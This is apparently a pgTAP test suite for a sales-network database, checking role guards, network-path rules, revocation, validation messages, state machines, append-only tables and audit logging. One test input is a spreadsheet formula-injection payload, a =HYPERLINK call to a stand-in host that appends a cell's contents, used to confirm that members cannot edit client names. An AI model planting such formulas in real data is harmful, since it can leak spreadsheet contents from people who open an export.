-- Invariants and guards beyond the matrix: protected columns, the network, revocation,
-- validation messages, state machines, append-only tables, audit, and the RPCs.
begin;
\ir _helpers.psql
select plan(54);

-- Members and roles are written only by functions (issue 23 §4): no API role writes clients or
-- users_roles, so no column of theirs changes by hand (the matrix and 06_api_privileges list it all),
-- and each rule is said by the function that keeps it.
select is(tests.error_as('member_a', $$update public.clients set star_level = 5 where id = {a}$$),
  'permission denied for table clients', 'un miembro no cambia su nivel: no escribe clients');
select is(tests.error_as('member_a', $$update public.clients set name = '=HYPERLINK("https://x.test/?"&A1)' where id = {a}$$),
  'permission denied for table clients', 'ni su nombre: la ficha cambia solo por funciones');
select is(tests.error_as('member_a', $$update public.clients set enroller_id = {b} where id = {a}$$),
  'permission denied for table clients', 'un miembro no cambia su patrocinador');
select is(tests.error_as('member_a', $$select public.update_client_contact({a}, 'Ana Prueba', 'ana@tests.savia')$$),
  'Solo el personal (admin o superadmin) puede realizar esta acción.', 'ni corrige su ficha con la función del personal');
select is(tests.try_as('member_a', 'update', $$update public.users_roles set role = 'superadmin' where user_id = auth.uid()$$),
  'denied', 'un miembro no cambia su propio rol');
select is(tests.try_as('superadmin_fin', 'update', $$update public.users_roles set role = 'admin' where user_id = {b_user}$$),
  'denied', 'un superadmin no hace admin a un miembro por la tabla');
select is(tests.error_as('superadmin', $$select public.set_staff_role(auth.uid(), 'admin', false)$$),
  'No puedes cambiar tu propio rol: pídeselo a otro superadmin.', 'un superadmin no cambia su propio rol (no puede bloquearse)');
select is(tests.error_as('admin', $$update public.clients set star_level = 4 where id = {a}$$),
  'permission denied for table clients', 'ni el personal edita el nivel');
select is(tests.error_as('admin', $$select public.change_enroller({a1}, {b}, 'Pedido del miembro')$$),
  'Solo un superadmin puede cambiar el enrolador de un miembro.', 'admin no mueve miembros en la red');
select is(tests.error_as('admin', $$insert into public.clients (name, email, enroller_id, is_active) values ('Xx Yy', 'xy@tests.savia', {root}, true)$$),
  'permission denied for table clients', 'nadie da de alta un miembro por la tabla');

-- The network: paths, moves, cycles.
select is((select extensions.nlevel(path) - (select extensions.nlevel(path) from public.clients where id = (select id from tests.fx where key = 'a'))
             from public.clients where id = (select id from tests.fx where key = 'a2')), 2, 'A2 está en la 2.ª generación de A');
select is(tests.error_as('superadmin', $$select public.change_enroller({a}, {a2}, 'Pedido del miembro')$$),
  'Ana Prueba no puede quedar debajo de Aurora Nieta: Aurora Nieta está en su propia red y se formaría un ciclo.', 'nadie queda bajo su propia descendencia');
select is(tests.error_as('superadmin', $$update public.clients set enroller_id = {b} where id = {a1}$$),
  'permission denied for table clients', 'ni un superadmin mueve a nadie sin motivo (UPDATE directo)');
-- The path's rule holds for every path, an operator's SQL included.
select is(tests.error_as('postgres', $$update public.clients set path = '1.2' where id = {a}$$),
  'La ruta de la red se calcula a partir del patrocinador; no se puede escribir.', 'la ruta no se escribe a mano');
select lives_ok($$ select tests.authenticate_as('superadmin');
  select public.change_enroller((select id from tests.fx where key = 'a1'), (select id from tests.fx where key = 'b'), 'Corrección del registro');
  select tests.clear_authentication() $$, 'superadmin mueve a A1 (con su descendencia) bajo B');
select ok((select c.path operator(extensions.<@) b.path from public.clients c, public.clients b
            where c.id = (select id from tests.fx where key = 'a2') and b.id = (select id from tests.fx where key = 'b')),
  'la descendencia de A1 se movió con él');
select ok(not exists (select 1 from public.clients c, public.clients a
                       where a.id = (select id from tests.fx where key = 'a') and c.path operator(extensions.<@) a.path and c.id <> a.id),
  'A se queda sin descendencia');
select is((select count(*)::integer from public.clients c
            where c.enroller_id is not null
              and extensions.subpath(c.path, 0, extensions.nlevel(c.path) - 1)::text
                  <> (select p.path::text from public.clients p where p.id = c.enroller_id)), 0,
  'la ruta de cada miembro es la de su patrocinador más su número');
select is(tests.error_as('postgres', $$insert into public.clients (name, email) values ('Otra Ana', 'A@TESTS.SAVIA')$$),
  'duplicate key value violates unique constraint "clients_email_unico"', 'correo único sin distinguir mayúsculas');
select is(tests.error_as('superadmin', $$select public.update_client_contact({a}, 'Ana Prueba', (select email from public.clients where id = {a}), p_slug => 'beatriz-prueba')$$),
  'El enlace beatriz-prueba ya es de otro miembro: elige otro.', 'slug único');

-- Revocation takes effect on the next request, with a token that still says admin.
select tests.authenticate_as('admin');
select tests.clear_authentication();
delete from public.users_roles where user_id = (select user_id from tests.personas where persona = 'admin');
select is(tests.try_as('admin', 'select', 'select * from public.clients'), 'rows:0', 'un admin revocado ya no ve clientes');
delete from public.users_roles where user_id = (select user_id from tests.personas where persona = 'member_b');
select is(tests.try_as('member_b', 'select', 'select * from public.sales'), 'rows:0', 'un miembro revocado ya no ve sus ventas');
select is(tests.try_as('postgres', 'insert', $$insert into public.users_roles (user_id, role, finance) values ({admin_user}, 'admin', true)$$),
  'error:23514 new row for relation "users_roles" violates check constraint "users_roles_finanzas_solo_superadmin"',
  'finanzas solo para superadmin');

-- Settings validation, in Spanish.
select is(tests.error_as('superadmin', $$update public.metadata set low_stock_threshold = -1$$),
  'El umbral de stock bajo debe ser un número entero entre 0 y 1.000.000.', 'umbral negativo rechazado');
select is(tests.error_as('superadmin', $$update public.metadata set company_name = '   '$$),
  'El nombre de la empresa no puede estar vacío.', 'nombre de empresa vacío rechazado');
select is(tests.error_as('superadmin', $$update public.metadata set company_name = repeat('x', 121)$$),
  'El nombre de la empresa no puede superar 120 caracteres.', 'nombre de empresa demasiado largo');
select is(tests.error_as('superadmin', $$update public.metadata set contact_info = repeat('x', 1001)$$),
  'La información de contacto no puede superar 1.000 caracteres.', 'contacto demasiado largo');
select is(tests.error_as('superadmin', $$update public.metadata set timezone = 'Marte/Olympus'$$),
  'La zona horaria «Marte/Olympus» no existe.', 'zona horaria inexistente');
select is(tests.error_as('superadmin', $$update public.metadata set timezone = 'posix/America/Bogota'$$),
  'La zona horaria «posix/America/Bogota» no existe.', 'ni un alias de PostgreSQL que los navegadores no conocen');
-- 1 April, 03:00 in Manila, is still 31 March in Bogotá: a change now would move the month.
select set_config('savia.now', '2026-04-01 03:00:00+08', true) is not null as ok \gset
select is(tests.error_as('superadmin', $$update public.metadata set timezone = 'Asia/Manila'$$),
  'Ahora mismo es marzo de 2026 en la zona horaria actual y abril de 2026 en «Asia/Manila»: cámbiala cuando en las dos sea el mismo mes.',
  'la zona horaria no cambia mientras las dos zonas están en meses distintos');
select set_config('savia.now', '', true) is not null as ok \gset
-- Through the API, as the superadmin's save runs: the checks the trigger calls are the database's.
select is(tests.error_as('superadmin', $$update public.metadata set activity_points = activity_points + 1, timezone = 'America/Lima'$$),
  null, 'un superadmin cambia los puntos de actividad y la zona horaria');

-- The plan: contiguous levels, non-decreasing thresholds, rates in [0, 1], for every path (save_plan
-- is the only one through the API); a change makes a version.
select is(tests.error_as('postgres', $$insert into public.star_level_configs values (7, 'Siete', 100, 90000, '{0.1}', 0, 0); set constraints all immediate$$),
  'Los niveles de estrella deben ser consecutivos desde 1 (hay 6 niveles y el mayor es 7).', 'niveles consecutivos');
select is(tests.error_as('postgres', $$update public.star_level_configs set group_points = 10 where level = 3; set constraints all immediate$$),
  'Los puntos requeridos no pueden bajar al subir de nivel (nivel 3).', 'umbrales no decrecientes');
select is(tests.error_as('postgres', $$update public.star_level_configs set commission_rates = '{0.1,1.5}' where level = 2$$),
  'new row for relation "star_level_configs" violates check constraint "star_level_tasas_validas"', 'tasas entre 0 y 1');
select is(tests.try_as('superadmin', 'update', $$update public.star_level_configs set starter_bonus = 11 where level = 1$$),
  'denied', 'el plan no se edita por la tabla: save_plan lo valida entero');
update public.star_level_configs set starter_bonus = starter_bonus + 1 where level = 1;
select is((select (plan -> 'levels' -> 0 ->> 'starter_bonus')::numeric from public.plan_versions order by version desc limit 1),
  (select starter_bonus from public.star_level_configs where level = 1), 'cambiar el plan crea una versión nueva');

-- Stock only moves through movements, never below zero.
select is(tests.error_as('postgres', $$update public.products set stock = 999 where id = {product}$$),
  'El stock no se edita directamente: registra un movimiento de inventario (reposición o ajuste).', 'el stock no se edita a mano');
-- (Through the API a movement is written only by the functions; the trigger holds for every path, an operator's SQL too.)
select is(tests.error_as('postgres', $$insert into public.stock_movements (product_id, quantity, kind, note) values ({product}, -101, 'adjustment', 'Merma')$$),
  'Stock insuficiente de «Producto vendido»: hay 100 y se necesitan 101.', 'el stock nunca queda negativo');
select is((select stock from public.products where id = (select id from tests.fx where key = 'product')),
  (select sum(quantity)::integer from public.stock_movements where product_id = (select id from tests.fx where key = 'product')),
  'stock = suma de movimientos');

-- Sale and payout state machines hold even for the engine (postgres).
select throws_ok($$ update public.sales set status = 'Entregada', delivered_at = now() where id = (select id from tests.fx where key = 'sale_a') $$,
  'P0001', 'No se puede pasar una venta de «Pendiente de Aprobación» a «Entregada».', 'transición de venta ilegal rechazada');
select throws_ok($$ insert into public.sales (client_id, kind, status) values ((select id from tests.fx where key = 'a'), 'order', 'Pagada') $$,
  'P0001', 'Una venta de tipo order no puede nacer en estado «Pagada».', 'un pedido no nace pagado');
select throws_ok($$ update public.payout_requests set status = 'paid', paid_at = now(), payment_reference = 'X' where id = (select id from tests.fx where key = 'payout_a') $$,
  'P0001', 'No se puede pasar una solicitud de cobro de «pending» a «paid».', 'un cobro no se paga sin aprobarse');

-- Append-only, even for the table owner.
select throws_ok($$ update public.reward_transactions set amount = 0 $$, '42501', null, 'el libro de recompensas no se edita');
select throws_ok($$ delete from public.audit_logs $$, '42501', null, 'la auditoría no se borra');
select throws_ok($$ truncate public.audit_logs $$, '42501', null, 'la auditoría no se vacía');

-- Audit rows carry actor and role.
select lives_ok($$ select tests.authenticate_as('superadmin');
  select public.save_supplier(s.id, s.name, s.tax_id, s.contact_name, s.email, s.phone, 'auditado', s.is_active,
                              array(select sp.product_id from public.supplier_products sp where sp.supplier_id = s.id))
    from public.suppliers s where s.id = (select id from tests.fx where key = 'supplier');
  select tests.clear_authentication() $$,
  'superadmin edita un proveedor');
select row_eq($$ select actor_id, actor_role, action, old_values ->> 'notes', new_values ->> 'notes' from public.audit_logs
                  where table_name = 'suppliers' and row_id = (select id::text from tests.fx where key = 'supplier') order by id desc limit 1 $$,
  row((select user_id from tests.personas where persona = 'superadmin'), 'superadmin'::text, 'UPDATE'::text, null::text, 'auditado'::text),
  'la auditoría guarda actor, rol, acción y valores antes y después');

-- A stock movement is its own record: the product's audit skips a change of stock alone, not an edit.
select lives_ok($$ select tests.authenticate_as('superadmin');
  select public.adjust_stock((select id from tests.fx where key = 'product'), 'entrada', 5, 'Reposición');
  select tests.clear_authentication() $$, 'superadmin repone stock');
select is((select count(*)::integer from public.audit_logs
            where table_name = 'products' and action = 'UPDATE' and row_id = (select id::text from tests.fx where key = 'product')),
  0, 'el cambio de stock por un movimiento no duplica una fila de auditoría del producto');
select lives_ok($$ select tests.authenticate_as('superadmin');
  select public.save_product(p.id, p.sku, p.name, p.price + 1, p.commissionable_amount, p.points, p.description, p.category,
                             p.benefits, p.is_kit, p.image_path, 0, p.components)
    from public.products p where p.id = (select id from tests.fx where key = 'product');
  select tests.clear_authentication() $$, 'superadmin cambia el precio');
select is((select count(*)::integer from public.audit_logs
            where table_name = 'products' and action = 'UPDATE' and row_id = (select id::text from tests.fx where key = 'product')
              and (new_values ->> 'price')::numeric = (old_values ->> 'price')::numeric + 1),
  1, 'una edición del producto sí queda en la auditoría');

-- The engine's activity flag follows from the ledger: flipping it alone adds no audit row.
create temporary table clients_audited as
  select count(*) as n from public.audit_logs where table_name = 'clients' and row_id = (select id::text from tests.fx where key = 'a');
update public.clients set is_active = not is_active where id = (select id from tests.fx where key = 'a');
select is((select count(*) from public.audit_logs where table_name = 'clients' and row_id = (select id::text from tests.fx where key = 'a'))
            - (select n from clients_audited), 0::bigint, 'la actividad que recalcula el motor no llena la auditoría');
update public.clients set star_level = star_level + 1 where id = (select id from tests.fx where key = 'a');
select is((select count(*) from public.audit_logs where table_name = 'clients' and row_id = (select id::text from tests.fx where key = 'a'))
            - (select n from clients_audited), 1::bigint, 'una subida de nivel sí queda en la auditoría');
-- The audit trigger of clients fires on an update of any column but those it does not copy: a new column
-- of clients must be added to its list (20250701040000_members.sql) or to the ones it leaves out.
select is(array(select a.attname::text from pg_trigger t join pg_attribute a on a.attrelid = t.tgrelid and a.attnum = any(t.tgattr)
                 where t.tgrelid = 'public.clients'::regclass and t.tgname = 'audit' order by a.attname),
          array(select a.attname::text from pg_attribute a
                 where a.attrelid = 'public.clients'::regclass and a.attnum > 0 and not a.attisdropped
                   and a.attname not in ('is_active', 'path', 'updated_at') order by a.attname),
          'la auditoría de clientes vigila cada columna salvo la actividad, la ruta y updated_at');

select * from finish();
rollback;
